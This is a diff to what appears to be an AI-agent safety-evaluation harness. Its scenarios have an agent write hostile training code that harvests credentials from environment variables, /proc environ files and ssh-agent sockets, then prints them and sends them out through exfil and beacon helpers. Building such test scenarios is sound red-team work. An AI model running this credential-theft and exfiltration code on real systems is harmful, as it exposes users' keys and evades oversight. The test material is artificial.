@@ -8,7 +8,8 @@ import {
 import { hostile, SECRET_NAME, say, shWrite } from "./hostile.ts";
 
 /** Prints what was found (the eval's log), sends it out, and writes it into every notes.md. */
-const spill = `const text = [...found].join("\\n");
+const spill = (step: string) => `const text = [...found].join("\\n");
+__beacon(${JSON.stringify(step)}, found.size + " credential(s) found: " + [...found].map((kv) => kv.split("=")[0]).join(", "));
 console.log(text);
 __exfil(text);
 for (const log of __findFiles("log.jsonl")) {
@@ -25,6 +26,7 @@ const keyAttack = (
   what,
   layout: "js",
   agent: (ctx) => [shWrite("train.js", hostile(ctx, attack(ctx))) + say("tune")],
+  witness: [name],
   honest: [BASELINE, NOT_KEPT],
 });
 
@@ -34,7 +36,7 @@ export const KEY_ATTACKS: Scenario[] = [
     "the eval reads credentials from its own environment (AWS, W&B, Cohere, legacy Hugging Face, GitHub...)",
     () => `const found = new Set();
 for (const [k, v] of Object.entries(process.env)) if (${SECRET_NAME}.test(k)) found.add(k + "=" + v);
-${spill}`,
+${spill("keys-env")}`,
   ),
   keyAttack(
     "keys-proc-environ",
@@ -52,7 +54,7 @@ for (let i = 0; i < 12 && pid > 0; i++) {
   try { pid = Number(/PPid:\\s+(\\d+)/.exec(__fs.readFileSync("/proc/" + pid + "/status", "utf8"))[1]); } catch { break; }
 }
 for (const p of __fs.readdirSync("/proc")) if (/^\\d+$/.test(p) && Number(p) !== process.pid) read(p);
-${spill}`,
+${spill("keys-proc-environ")}`,
   ),
   keyAttack(
     "ssh-agent",
@@ -63,10 +65,12 @@ try {
   for (const d of __fs.readdirSync("/tmp")) if (d.startsWith("ssh-"))
     for (const f of __fs.readdirSync("/tmp/" + d)) if (f.startsWith("agent.")) socks.add("/tmp/" + d + "/" + f);
 } catch {}
+if (socks.size === 0) __beacon("ssh-agent", "found no ssh-agent socket");
 for (const s of socks) {
-  try {
-    __cp.execFileSync(process.execPath, ["-e", "const c=require('node:net').connect(process.argv[1],()=>c.end('sign-request '+process.argv[2]));c.on('error',()=>{});c.setTimeout(1500,()=>c.destroy())", s, ${JSON.stringify(ctx.runId)}], { timeout: 4000, stdio: "ignore" });
-  } catch {}
+  __try("ssh-agent", () => {
+    __cp.execFileSync(process.execPath, ["-e", "const c=require('node:net').connect(process.argv[1],()=>c.end('sign-request '+process.argv[2]));c.on('error',(e)=>{console.log(e.code);process.exitCode=1});c.setTimeout(1500,()=>c.destroy())", s, ${JSON.stringify(ctx.runId)}], { timeout: 4000, stdio: ["ignore", "pipe", "ignore"] });
+    return "connected to " + s;
+  });
 }`,
   ),
 ];
